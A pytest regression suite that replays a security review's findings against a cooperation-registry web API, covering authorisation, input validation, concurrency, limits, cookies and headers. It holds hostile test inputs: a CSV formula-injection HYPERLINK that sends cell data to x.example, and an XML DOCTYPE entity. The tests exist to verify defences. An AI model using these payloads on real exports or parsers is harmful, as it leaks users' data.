"""The security review's findings (issue 21), each reproduced as the review did it, on SQLite
and on a throwaway PostgreSQL server: each test failed before its fix."""

from __future__ import annotations

from typing import Any

import pytest
from coop_helpers import FAST_HASH, NEED, OFFER, PW, World, accept_both, setup_match
from sqlalchemy import select, text
from sqlalchemy.exc import IntegrityError

from aicap.analysis.cooperate.service import default_vocabulary
from aicap.warehouse.cooperation.db import make_engine, migrate
from aicap.warehouse.cooperation.models import Activity
from aicap.warehouse.cooperation.store import CoopStore, InvalidInputError

PLANTED = {"iati_identifier": "XM-PLANTED-1", "provider_org": "Open University"}


def _flow(mid_or_act: dict[str, Any], amount: float = 1000.0) -> dict[str, Any]:
    return {**mid_or_act, "amount": amount, "on_date": "2026-02-01"}


# ------------------------------------------------------------------ F1
def test_f1_no_client_binds_an_activity_to_a_match(store: CoopStore) -> None:
    w = World(store)
    m = setup_match(w)
    mid = m["id"]
    accept_both(w, m)
    for client in (w.uni, w.admin):  # nobody names a match: not a partner, not an admin
        r = client.post("/api/coop/activities", json={**PLANTED, "match_id": mid})
        assert r.status_code == 422, r.text
        assert "match_id" in r.json()["error"]["message"]
    assert store.records("activity") == []
    assert store.get("match", mid)["state"] == "accepted"
    # the provider's first commitment makes the match's activity, owned by the provider
    r = w.acme.post("/api/coop/commitments", json=_flow({"match_id": mid}))
    assert r.status_code == 201, r.text
    act = store.activity_of_match(mid)
    assert act is not None and act["provider_org"] == "Acme Cloud"
    assert store.get("match", mid)["state"] == "committed"
    # an activity recorded by hand cannot be moved onto a match afterwards
    own = w.uni.post("/api/coop/activities", json=PLANTED)
    assert own.status_code == 201, own.text
    r = w.uni.patch(
        f"/api/coop/activities/{own.json()['id']}", json={"version": 1, "match_id": mid}
    )
    assert r.status_code == 422 and "match_id" in str(r.json()["error"]["detail"])
    assert store.get("activity", own.json()["id"])["match_id"] is None
    # the database holds at most one activity per match
    with pytest.raises(IntegrityError), store.tx() as s:
        s.add(Activity(iati_identifier="XM-DUP-1", match_id=mid, provider_org="Acme Cloud"))


def test_f1_a_planted_activity_gives_its_planter_nothing(store: CoopStore) -> None:
    """An activity planted on a match before the fix (provider Y, match of X): the match's
    owner decides who records flows and results on it, not the activity's provider."""
    w = World(store)
    m = setup_match(w)
    mid = m["id"]
    accept_both(w, m)
    with store.tx() as s:  # as the review planted it
        s.add(Activity(**PLANTED, match_id=mid, recipient_iso3="KEN"))
    act_id = store.records("activity")[0]["id"]
    r = w.uni.post("/api/coop/commitments", json=_flow({"activity_id": act_id}))
    assert r.status_code == 403, r.text
    r = w.uni.post(
        "/api/coop/results",
        json={
            "activity_id": act_id,
            "indicator": "planted result",
            "period_start": "2026-01-01",
            "period_end": "2026-12-31",
        },
    )
    assert r.status_code == 403, r.text
    r = w.uni.patch(f"/api/coop/activities/{act_id}", json={"version": 1, "title": "mine"})
    assert r.status_code == 403, r.text
    assert store.get("match", mid)["state"] == "accepted"
    r = w.acme.post("/api/coop/commitments", json=_flow({"match_id": mid}))
    assert r.status_code == 201, r.text
    assert store.get("match", mid)["state"] == "committed"


def test_f1_migration_detaches_planted_and_duplicate_activities(db_url: str) -> None:
    engine = make_engine(db_url)
    migrate(engine, "0001")
    with engine.begin() as c:
        for sql in (
            "INSERT INTO coop_need (id, country_iso3, title, interventions, areas, priority,"
            " beneficiary_groups, demand, languages, evidence, status, version, dataset,"
            " created_at, updated_at) VALUES (1, 'KEN', 'need', '[]', '[\"compute\"]', 2,"
            " '[]', '{}', '[]', '{}', 'open', 1, 'real', :t, :t)",
            "INSERT INTO coop_offer (id, provider_org, provider_type, pledge_type, title,"
            " interventions, areas, eligible_countries, eligible_tiers, capacity_amount,"
            " capacity_unit, modalities, languages, conditions, status, version, dataset,"
            " created_at, updated_at) VALUES (1, 'Acme Cloud', 'private_company', 'compute',"
            " 'offer', '[]', '[\"compute\"]', '[]', '[]', 10, 'USD', '[]', '[]', '{}', 'open',"
            " 1, 'real', :t, :t)",
            "INSERT INTO coop_match (id, need_id, offer_id, state, score, terms,"
            " allocated_amount, allocated_unit, note, version, dataset, created_at, updated_at)"
            " VALUES (1, 1, 1, 'accepted', 0.5, '[]', 10, 'USD', '', 1, 'real', :t, :t)",
        ):
            c.execute(text(sql), {"t": "2026-01-01 00:00:00+00:00"})
        for i, org in ((1, "Open University"), (2, "Acme Cloud"), (3, "Acme Cloud")):
            c.execute(
                text(
                    "INSERT INTO coop_activity (id, iati_identifier, source, match_id, title,"
                    " reporting_org_ref, reporting_org_name, provider_org, participating_orgs,"
                    " sectors, status, version, dataset, created_at, updated_at) VALUES"
                    " (:i, :ident, 'aicap', 1, '', '', '', :org, '[]', '[]', '2', 1, 'real',"
                    " :t, :t)"
                ),
                {"i": i, "ident": f"XM-{i}", "org": org, "t": "2026-01-01 00:00:00+00:00"},
            )
    engine.dispose()
    st = CoopStore.open(db_url, default_vocabulary(), hasher=FAST_HASH)  # migrates to head
    try:
        with st.tx() as s:
            on_match = s.scalars(select(Activity.id).where(Activity.match_id == 1)).all()
        assert list(on_match) == [2]  # the provider's oldest activity keeps the match
        notes = {a["entity_id"]: a["after"]["note"] for a in st.audit(entity="activity")}
        assert set(notes) == {1, 3}
        assert "not the match's provider" in notes[1] and "older activity" in notes[3]
        assert st.get("activity", 1)["match_id"] is None  # kept, detached
        old = st.get("match", 1)  # migration 0003: a match accepted before counts for both
        assert old["need_accepted"] and old["offer_accepted"] and old["state"] == "accepted"
    finally:
        st.close()


# ------------------------------------------------------------------ F3
def test_f3_server_derived_fields_are_never_taken_from_clients(store: CoopStore) -> None:
    w = World(store)
    forged = {"tier": 0, "ldc": True, "evidence": {"available": True, "tier": 0}}
    for field, value in forged.items():
        r = w.ken.post("/api/coop/needs", json={**NEED, field: value})
        assert r.status_code == 422, (field, r.text)
        assert field in r.json()["error"]["message"]
    r = w.ken.post("/api/coop/needs", json=NEED)
    assert r.status_code == 201, r.text
    need = r.json()
    assert need["tier"] == 1 and need["evidence"]["source"] == "test diagnosis"  # the server's
    for field, value in forged.items():
        r = w.ken.patch(f"/api/coop/needs/{need['id']}", json={"version": 1, field: value})
        assert r.status_code == 422, (field, r.text)
        assert field in str(r.json()["error"]["detail"])
    # the store refuses them too (the pages and the CLI go through it)
    with pytest.raises(InvalidInputError, match="tier"):
        store.create(store.authenticate("ken", PW), "need", {**NEED, "tier": 0})
    after = store.get("need", need["id"])
    assert (after["tier"], after["version"]) == (1, 1)
    # an offer gated on tier 0 does not reach KEN (tier 1), however the focal point asks
    r = w.acme.post("/api/coop/offers", json={**OFFER, "eligible_tiers": [0]})
    assert r.status_code == 201, r.text
    r = w.admin.post("/api/coop/matches/propose", json={"on": "2026-01-01", "save": False})
    assert r.status_code == 200 and r.json()["proposals"] == [], r.text
    # an administrator moving the need to another country: that country's diagnosis
    r = w.admin.patch(f"/api/coop/needs/{need['id']}", json={"version": 1, "country_iso3": "MWI"})
    assert r.status_code == 200, r.text
    assert r.json()["tier"] == 0 and r.json()["evidence"]["iso3"] == "MWI"


# ------------------------------------------------------------------ F4
def _raw(client: Any, path: str, body: str) -> Any:
    return client.post(path, content=body, headers={"Content-Type": "application/json"})


def test_f4_amounts_are_finite_and_bounded(store: CoopStore) -> None:
    w = World(store)
    m = setup_match(w)
    mid = m["id"]
    accept_both(w, m)
    huge = ("Infinity", "-Infinity", "NaN", "1e309", "1e28")
    for value in huge:
        body = f'{{"match_id": {mid}, "amount": {value}, "on_date": "2026-02-01"}}'
        r = _raw(w.acme, "/api/coop/commitments", body)
        assert r.status_code == 422, (value, r.text)
        assert "amount" in r.json()["error"]["message"], r.text
        r = _raw(
            w.acme,
            "/api/coop/offers",
            json_with(OFFER, capacity_amount=value),
        )
        assert r.status_code == 422 and "capacity_amount" in r.json()["error"]["message"]
        r = _raw(w.ken, "/api/coop/needs", json_with(NEED, budget_gap_usd=value))
        assert r.status_code == 422 and "budget_gap_usd" in r.json()["error"]["message"]
        r = _raw(w.ken, "/api/coop/needs", json_with(NEED, demand=f'{{"GPU-hours": {value}}}'))
        assert r.status_code == 422 and "demand" in r.json()["error"]["message"]
    r = w.acme.post("/api/coop/commitments", json=_flow({"match_id": mid}, 5e5))
    assert r.status_code == 201, r.text
    act_id = r.json()["activity_id"]
    result = {
        "activity_id": act_id,
        "indicator": "Researchers with access",
        "period_start": "2026-01-01",
        "period_end": "2026-12-31",
    }
    for value in ("NaN", "Infinity", "1e309"):
        r = _raw(w.acme, "/api/coop/results", json_with(result, actual=value))
        assert r.status_code == 422 and "actual" in r.json()["error"]["message"], r.text
    # open-ended fields hold no infinities either
    r = _raw(w.acme, "/api/coop/offers", json_with(OFFER, conditions='{"cap": Infinity}'))
    assert r.status_code == 422 and "conditions" in r.json()["error"]["message"]
    assert len(store.records("flow")) == 1 and store.records("result") == []
    # the largest amounts taken still give matchmaking, accountability and the export
    big = {**OFFER, "capacity_amount": 1e13, "title": "The largest offer"}
    assert w.acme.post("/api/coop/offers", json=big).status_code == 201
    assert w.ken.post("/api/coop/needs", json={**NEED, "budget_gap_usd": 1e13}).status_code == 201
    assert w.acme.post("/api/coop/commitments", json=_flow({"match_id": mid}, 1e13)).is_success
    assert w.admin.post("/api/coop/matches/propose", json={"save": False}).status_code == 200
    for by in ("provider", "country", "modality"):
        r = w.anon.get("/api/coop/accountability", params={"by": by})
        assert r.status_code == 200, r.text
    assert w.anon.get("/api/coop/export/iati.xml").status_code == 200


def json_with(base: dict[str, Any], **raw: str) -> str:
    """``base`` as JSON with some fields given as raw JSON text (``Infinity``, ``1e309``)."""
    import json

    text = json.dumps({k: v for k, v in base.items() if k not in raw})
    extra = ", ".join(f'"{k}": {v}' for k, v in raw.items())
    return text[:-1] + ", " + extra + "}"


def test_f4_control_characters_are_refused_and_the_export_survives_old_rows(
    store: CoopStore,
) -> None:
    w = World(store)
    m = setup_match(w)
    mid = m["id"]
    accept_both(w, m)
    for bad in ("a\x00b", "bell\x07", "esc\x1b[31m", "\ufffe"):
        r = w.acme.post(
            "/api/coop/commitments", json={**_flow({"match_id": mid}), "description": bad}
        )
        assert r.status_code == 422 and "description" in r.json()["error"]["message"], r.text
        r = w.acme.post("/api/coop/offers", json={**OFFER, "title": "Offer " + bad})
        assert r.status_code == 422 and "title" in r.json()["error"]["message"]
        r = w.acme.post("/api/coop/offers", json={**OFFER, "conditions": {"licence": bad}})
        assert r.status_code == 422 and "conditions" in r.json()["error"]["message"]
        r = w.ken.post(
            f"/api/coop/matches/{mid}/transition",
            json={"version": store.get("match", mid)["version"], "state": "declined", "note": bad},
        )
        assert r.status_code == 422 and "note" in r.json()["error"]["message"]
    ok = {**_flow({"match_id": mid}), "description": "line one\nline two\ttabbed"}
    r = w.acme.post("/api/coop/commitments", json=ok)
    assert r.status_code == 201, r.text
    # rows stored before the fix (a control character, an infinite amount): export still works
    from aicap.warehouse.cooperation.models import Flow

    act_id = r.json()["activity_id"]
    with store.tx() as s:
        for amount, desc in ((float("inf"), "inf"), (7.0, "old\x01row\x0b")):
            s.add(
                Flow(
                    activity_id=act_id,
                    kind="disbursement",
                    amount=amount,
                    unit="USD",
                    on_date=__import__("datetime").date(2026, 3, 1),
                    description=desc,
                )
            )
    r = w.anon.get("/api/coop/export/iati.xml")
    assert r.status_code == 200, r.text
    assert b"oldrow" in r.content and b"\x01" not in r.content
    assert w.anon.get("/api/coop/export/activities.csv").status_code == 200


# ------------------------------------------------------------------ F2
def test_f2_concurrent_first_commitments_make_one_activity(store: CoopStore) -> None:
    from concurrent.futures import ThreadPoolExecutor

    w = World(store)
    m = setup_match(w)
    mid = m["id"]
    accept_both(w, m)
    start = __import__("threading").Barrier(20)

    def commit(i: int) -> tuple[int, Any]:
        start.wait()
        r = w.acme.post("/api/coop/commitments", json=_flow({"match_id": mid}, 1000.0 + i))
        return r.status_code, r.json()

    with ThreadPoolExecutor(20) as pool:
        got = list(pool.map(commit, range(20)))
    codes = [c for c, _ in got]
    assert set(codes) <= {201, 409}, codes
    for code, body in got:
        if code == 409:
            assert body["error"]["detail"]["field"] in ("match_id", "version"), body
    activities = [a for a in store.records("activity") if a["match_id"] == mid]
    assert len(activities) == 1
    flows = store.records("flow")
    assert len(flows) == codes.count(201) and codes.count(201) >= 1
    assert {f["activity_id"] for f in flows} == {activities[0]["id"]}
    assert store.get("match", mid)["state"] == "committed"
    moves = [
        a
        for a in store.audit(entity="match", entity_id=mid)
        if a["action"] == "transition" and a["after"]["state"] == "committed"
    ]
    assert len(moves) == 1


def test_f2_every_conflict_names_its_field(store: CoopStore) -> None:
    w = World(store)
    m = setup_match(w)
    mid, v = m["id"], m["version"]
    r = w.admin.post(f"/api/coop/matches/{mid}/transition", json={"version": v, "state": "nope"})
    assert r.status_code == 409 and r.json()["error"]["detail"]["field"] == "state"
    r = w.admin.post(f"/api/coop/matches/{mid}/accept", json={"version": v + 5})
    assert r.status_code == 409 and r.json()["error"]["detail"]["field"] == "version"
    r = w.admin.post(
        "/api/coop/accounts", json={"username": "ken", "password": PW, "role": "public"}
    )
    assert r.status_code == 409 and r.json()["error"]["detail"]["field"] == "username"
    assert r.json()["error"]["detail"]["loc"] == ["body", "username"]


# ------------------------------------------------------------------ F7
def test_f7_the_audit_log_pages(store: CoopStore) -> None:
    from aicap.warehouse.cooperation.store import SYSTEM

    w = World(store)
    with store.tx() as s:
        for i in range(1100):
            store._audit(s, SYSTEM, "create", "probe", i, None, {"i": i})
    total = store.audit_count()
    assert total == len(store.audit()) and total > 1100
    r = w.admin.get("/api/coop/audit", params={"entity": "probe"})
    assert r.status_code == 200 and len(r.json()) == 1000
    assert r.headers["X-Total-Count"] == "1100"
    r = w.admin.get("/api/coop/audit", params={"entity": "probe", "limit": 150, "offset": 1000})
    assert [e["after"]["i"] for e in r.json()] == list(range(1000, 1100))
    r = w.admin.get("/api/coop/audit", params={"entity": "probe", "limit": 3, "order": "newest"})
    assert [e["after"]["i"] for e in r.json()] == [1099, 1098, 1097]
    pages = []
    for offset in range(0, total, 400):  # paging through all of it: every entry once
        r = w.admin.get("/api/coop/audit", params={"limit": 400, "offset": offset})
        pages.extend(e["id"] for e in r.json())
    assert pages == [e["id"] for e in store.audit()] and len(pages) == total
    for bad in ({"limit": 0}, {"limit": 5000}, {"offset": -1}, {"offset": 2**63}):
        r = w.admin.get("/api/coop/audit", params=bad)
        assert r.status_code == 422, (bad, r.text)
        assert next(iter(bad)) in r.json()["error"]["message"]


# ------------------------------------------------------------------ F11-F15
def test_f11_csv_export_is_safe_against_formula_injection(store: CoopStore) -> None:
    w = World(store)
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    r = w.admin.post(
        "/api/coop/activities",
        json={"iati_identifier": "@SUM(1+1)", "provider_org": evil, "recipient_iso3": "KEN"},
    )
    assert r.status_code == 201, r.text
    r = w.admin.post(
        "/api/coop/disbursements",
        json={"activity_id": r.json()["id"], "amount": 10, "on_date": "2026-01-05"},
    )
    assert r.status_code == 201, r.text
    csv_text = w.anon.get("/api/coop/export/activities.csv").text
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(csv_text)))
    assert rows[0]["provider_org"] == "'" + evil and rows[0]["iati_identifier"] == "'@SUM(1+1)"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
    # the import takes the escape off again
    r = w.admin.post("/api/coop/import/activities.csv", content=csv_text.encode())
    assert r.status_code == 200, r.text
    assert {a["provider_org"] for a in store.records("activity")} == {evil}


def test_f12_no_500_for_unknown_or_huge_ids_or_a_doctype(store: CoopStore) -> None:
    w = World(store)
    big, huge = 2**31 - 1, 2**63
    for path in ("matches", "needs", "offers", "activities", "commitments", "results"):
        assert w.anon.get(f"/api/coop/{path}/{big}").status_code == 404
        for client, method, kw in (
            (w.anon, "get", {}),
            (w.admin, "patch", {"json": {"version": 1}}),
            (w.admin, "delete", {}),
        ):
            r = getattr(client, method)(f"/api/coop/{path}/{huge}", **kw)
            assert r.status_code == 422, (path, method, r.text)
    r = w.admin.delete(f"/api/coop/needs/{big}", params={"version": huge})
    assert r.status_code == 422 and "version" in r.json()["error"]["message"]
    for params in ({"need_id": huge}, {"offer_id": huge}):
        assert w.anon.get("/api/coop/matches", params=params).status_code == 422
    assert w.anon.get("/api/coop/needs", params={"offset": huge}).status_code == 422
    r = w.admin.post(f"/api/coop/matches/{huge}/accept", json={"version": 1})
    assert r.status_code == 422
    r = w.admin.post(f"/api/coop/matches/{big}/accept", json={"version": 1})
    assert r.status_code == 404
    for body in (
        {"match_id": 99999, "amount": 5, "on_date": "2026-01-01"},
        {"match_id": big, "amount": 5, "on_date": "2026-01-01"},
        {"activity_id": 99999, "amount": 5, "on_date": "2026-01-01"},
    ):
        r = w.acme.post("/api/coop/commitments", json=body)
        assert r.status_code in (404, 422), (body, r.text)
    r = w.acme.post(
        "/api/coop/commitments", json={"match_id": huge, "amount": 5, "on_date": "2026-01-01"}
    )
    assert r.status_code == 422
    doctype = (
        b'<?xml version="1.0"?>\n<!DOCTYPE iati-activities [<!ENTITY x "boom">]>\n'
        b'<iati-activities version="2.03"><iati-activity><iati-identifier>&x;'
        b"</iati-identifier></iati-activity></iati-activities>"
    )
    r = w.admin.post("/api/coop/import/iati", content=doctype)
    assert r.status_code == 422 and "DOCTYPE" in r.json()["error"]["message"], r.text
    # a fresh install's IATI link: 404 saying why, not 422
    r = w.anon.get("/api/coop/export/iati.xml")
    assert r.status_code == 404 and "no activities" in r.json()["error"]["message"]


def test_f13_passwords_of_12_characters_not_on_the_breached_list(store: CoopStore) -> None:
    w = World(store)
    acc = {"username": "newbie", "role": "public"}
    for pw in ("elevenchars", "password1234", "Qwerty123456", "p@ssw0rd 1234", "zzzzzzzzzzzzzz"):
        r = w.admin.post("/api/coop/accounts", json={**acc, "password": pw})
        assert r.status_code == 422, (pw, r.text)
        assert "password" in r.json()["error"]["message"]
    r = w.admin.post("/api/coop/accounts", json={**acc, "password": "newbie-and-more"})
    assert r.status_code == 422  # contains the username
    r = w.admin.post("/api/coop/accounts", json={**acc, "password": "plum kettle orbit"})
    assert r.status_code == 200, r.text


def test_f14_f15_cookie_attributes_and_security_headers(
    store: CoopStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    from fastapi.testclient import TestClient

    w = World(store)
    r = TestClient(w.app).post("/api/coop/auth/login", json={"username": "ken", "password": PW})
    plain = r.headers["set-cookie"]
    assert plain.startswith("aicap_coop_session=") and "secure" not in plain.lower()
    assert "httponly" in plain.lower() and "samesite=strict" in plain.lower()
    monkeypatch.setenv("AICAP_COOP_SECURE_COOKIES", "1")
    c = TestClient(w.app, base_url="https://registry.example")
    r = c.post("/api/coop/auth/login", json={"username": "ken", "password": PW})
    cookie = r.headers["set-cookie"]
    assert cookie.startswith("__Host-aicap_coop_session=")
    assert "; secure" in cookie.lower() and "path=/" in cookie.lower()
    assert "domain" not in cookie.lower()
    assert c.get("/api/coop/auth/me").json()["username"] == "ken"  # the cookie works
    assert r.headers["strict-transport-security"].startswith("max-age=")
    # headers on every response: a public read, an error, a signed-in read
    for resp, private in (
        (w.anon.get("/api/coop/needs"), False),
        (w.anon.get("/api/coop/needs/999"), False),
        (w.anon.post("/api/coop/needs", json={}), False),
        (w.ken.get("/api/coop/auth/me"), True),
    ):
        h = resp.headers
        assert "frame-ancestors 'none'" in h["content-security-policy"]
        assert "script-src" not in h["content-security-policy"]  # default-src 'none'
        assert h["x-content-type-options"] == "nosniff" and h["x-frame-options"] == "DENY"
        assert h["referrer-policy"] == "same-origin"
        assert (h.get("cache-control") == "no-store") is private, resp.request.url


def test_f16_both_sides_must_accept(store: CoopStore) -> None:
    w = World(store)
    m = setup_match(w)
    mid = m["id"]
    r = w.acme.post(f"/api/coop/matches/{mid}/accept", json={"version": m["version"]})
    assert r.status_code == 200 and r.json()["state"] == "proposed"  # one side is not both
    assert r.json()["offer_accepted"] and not r.json()["need_accepted"]
    assert store.allowed_targets(store.authenticate("acme", PW), mid) == ["declined"]
    r = w.acme.post(f"/api/coop/matches/{mid}/accept", json={"version": r.json()["version"]})
    assert r.status_code == 409 and r.json()["error"]["detail"]["field"] == "state"
    # a commitment before the other side accepted leaves the match proposed
    r = w.acme.post("/api/coop/commitments", json=_flow({"match_id": mid}))
    assert r.status_code == 201 and store.get("match", mid)["state"] == "proposed"
    v = store.get("match", mid)["version"]
    r = w.ken.post(f"/api/coop/matches/{mid}/accept", json={"version": v})
    assert r.status_code == 200 and r.json()["state"] == "accepted"
    # an administrator accepts for both
    n2 = w.ken.post("/api/coop/needs", json={**NEED, "title": "Second need of Kenya"}).json()
    o2 = w.acme.post("/api/coop/offers", json={**OFFER, "title": "Second offer"}).json()
    m2 = store.create(
        store.authenticate("admin", PW),
        "match",
        {"need_id": n2["id"], "offer_id": o2["id"], "allocated_amount": 10},
    )
    r = w.admin.post(f"/api/coop/matches/{m2['id']}/accept", json={"version": m2["version"]})
    assert r.status_code == 200 and r.json()["state"] == "accepted"
    assert r.json()["need_accepted"] and r.json()["offer_accepted"]


# ------------------------------------------------------------------ F5
def test_f5_request_size_limits_before_auth(
    store: CoopStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    w = World(store)
    big_field = {**NEED, "title": "x" * (2 << 20)}  # a 2 MiB field
    for client in (w.anon, w.reader, w.ken):
        r = client.post("/api/coop/needs", json=big_field)
        assert r.status_code == 413, r.text[:200]
        assert r.json()["error"]["code"] == "payload_too_large"
        assert r.headers["x-content-type-options"] == "nosniff"
    r = w.ken.patch("/api/coop/needs/1", json={"version": 1, "title": "y" * (2 << 20)})
    assert r.status_code == 413
    assert store.records("need") == [] and store.audit_count(entity="need") == 0
    # imports have their own, larger limit; anyone but an administrator is refused unread
    monkeypatch.setenv("AICAP_COOP_MAX_IMPORT_MB", "1")
    blob = b"<iati-activities>" + b" " * (2 << 20) + b"</iati-activities>"
    assert w.admin.post("/api/coop/import/iati", content=blob).status_code == 413
    assert w.anon.post("/api/coop/import/iati", content=b"<x/>").status_code == 403
    assert w.admin.post("/api/coop/import/activities.csv", content=blob).status_code == 413


def test_f5_a_body_without_length_is_cut_off() -> None:
    import asyncio

    from fastapi import HTTPException
    from starlette.requests import Request

    from aicap.web.coop_http import limit_body

    chunks = [b"a" * 1000] * 10
    sent: list[int] = []

    async def receive() -> dict[str, Any]:
        sent.append(1)
        body = chunks[len(sent) - 1]
        return {"type": "http.request", "body": body, "more_body": len(sent) < len(chunks)}

    scope = {"type": "http", "method": "POST", "headers": [], "path": "/"}
    req = limit_body(Request(scope, receive), 2500)
    with pytest.raises(HTTPException) as exc:
        asyncio.run(req.body())
    assert exc.value.status_code == 413 and len(sent) == 3  # stopped at the third chunk
